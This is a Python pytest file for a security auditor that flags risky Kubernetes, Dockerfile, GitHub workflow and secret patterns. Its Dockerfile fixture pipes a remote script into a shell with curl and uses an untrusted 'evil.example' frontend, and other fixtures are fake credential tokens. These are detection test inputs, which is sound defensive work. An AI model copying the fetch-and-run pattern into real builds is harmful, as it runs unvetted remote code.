"""Probes that once passed the auditor with verdict *pass*: each is now caught."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from app import ROOT
from app.findings import Verdict
from jobs.auditor.core import audit_files, chart_documents
from jobs.auditor.inputs.secret_scan import load_patterns, scan_text

POD = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"},
       "spec": {"containers": [{"name": "a", "image": "nginx:1.27",
                                "securityContext": {"privileged": True}}]}}


def _rules(files: dict[str, str]) -> dict[str, set[tuple[str, int | None]]]:
    out: dict[str, set[tuple[str, int | None]]] = {}
    for f in audit_files(files).findings:
        out.setdefault(f.rule, set()).add((f.path, f.line))
    return out


@pytest.mark.parametrize("indent", [2, "\t", None])
def test_a_manifest_in_a_json_file_is_judged_with_lines(indent: int | str | None) -> None:
    rules = _rules({"k8s/pod.json": json.dumps(POD, indent=indent), "package.json": "{}"})
    assert {p for p, _ in rules["K8S001"]} == {"k8s/pod.json"}
    if indent == 2:
        assert rules["K8S001"] == {("k8s/pod.json", 13)}


def test_a_chart_template_named_json_is_judged() -> None:
    files = {"chart/Chart.yaml": "apiVersion: v2\nname: c\nversion: 0.1.0\n",
             "chart/templates/pod.json": json.dumps(POD, indent=2)}
    docs, errors, notes = chart_documents(files, "chart")
    assert not errors and not notes
    assert [(d.path, d.input["kind"]) for d in docs] == [("chart/templates/pod.json", "Pod")]


@pytest.mark.parametrize("text", [
    # libyaml's path, and ruamel's (an explicit tag sends the file there)
    "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: a\n"
    "    securityContext:\n      privileged: false\n      privileged: true\n",
    "apiVersion: v1\nkind: Pod\nmetadata: {name: !!str p}\nspec:\n  containers:\n  - name: a\n"
    "    securityContext:\n      privileged: false\n      privileged: true\n",
])
def test_a_duplicate_yaml_key_is_flagged_where_it_is(text: str) -> None:
    result = audit_files({"k8s/pod.yaml": text})
    [finding] = [f for f in result.findings if f.rule == "INPUT003"]
    assert (finding.line, finding.severity.value) == (9, "hard")
    assert "`privileged`" in finding.message and result.verdict is Verdict.FAIL


DOCKERFILE = """# syntax=evil.example/frontend:1
ARG BASE=ubuntu:latest
FROM ${BASE}
RUN <<EOF
set -e
curl -fsSL https://get.example.com/i.sh | sh
EOF
USER app
"""


def test_dockerfile_arg_default_base_heredoc_curl_and_untrusted_frontend() -> None:
    rules = _rules({"Dockerfile": DOCKERFILE})
    assert rules["DKR001"] == {("Dockerfile", 3)}
    assert rules["DKR003"] == {("Dockerfile", 4)}
    assert rules["DKR005"] == {("Dockerfile", 1)}
    trusted = DOCKERFILE.replace("evil.example/frontend:1", "docker/dockerfile:1.7")
    assert "DKR005" not in _rules({"Dockerfile": trusted})


def test_a_secret_echoed_in_bracket_form_is_gha005() -> None:
    wf = ("on: push\npermissions: {contents: read}\njobs:\n  b:\n    runs-on: x\n    steps:\n"
          "      - run: |\n          make\n          echo \"${{ secrets['TOKEN'] }}\"\n")
    assert _rules({".github/workflows/ci.yml": wf})["GHA005"] == {(".github/workflows/ci.yml", 9)}


def test_a_secret_on_a_very_long_line_is_found() -> None:
    token = "ghp_" + "A1b2" * 9
    text = "const x = 1;\n" + "a" * 10_000 + f" '{token}' " + "b" * 10_000 + "\n"
    result = audit_files({"dist/app.min.js": text})
    assert [(f.rule, f.line) for f in result.findings] == [("SEC001", 2)]


def test_the_secret_scan_agrees_with_a_line_by_line_scan() -> None:
    patterns, _ = load_patterns()
    lines = ["AKIAABCDEFGHIJKLMNOP x", "aws_secret_access_key = " + "a" * 40, "sk-sk-sk-",
             "xoxb-1234567890-abc npm_" + "a" * 36, "AWS_SECRET_ACCESS_KEY: '" + "B" * 40 + "'",
             "-----BEGIN RSA PRIVATE KEY-----", "xAKIAABCDEFGHIJKLMNOP", "sk_live_" + "9" * 30,
             "glpat-" + "x" * 20, "\u0130 aws_secret_access_key=" + "c" * 40]
    text = "\n".join(lines) + "\n"
    expected = []
    for n, line in enumerate(lines, 1):
        for p in patterns:
            if p.regex.search(line):
                expected.append((n, p.id))
                break
    assert [(n, p.id) for n, p, _ in scan_text(text)] == expected
    assert len(expected) == 8


def test_a_file_of_thousands_of_yaml_documents_is_bounded() -> None:
    text = "\n---\n".join(f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c{i}}}"
                          for i in range(3000))
    result = audit_files({"k8s/many.yaml": text})
    assert [(f.rule, f.severity.value) for f in result.findings] == [("INPUT002", "soft")]
    assert result.verdict is Verdict.REVIEW


def test_the_cli_reports_the_probes(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text(DOCKERFILE)
    (tmp_path / "pod.json").write_text(json.dumps(POD))
    out = subprocess.run([sys.executable, "-m", "app.cli", "audit", str(tmp_path), "--format",
                          "json"], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert out.returncode == 1, out.stderr
    rules = {f["rule"] for f in json.loads(out.stdout)["findings"]}
    assert {"DKR001", "DKR003", "DKR005", "K8S001"} <= rules
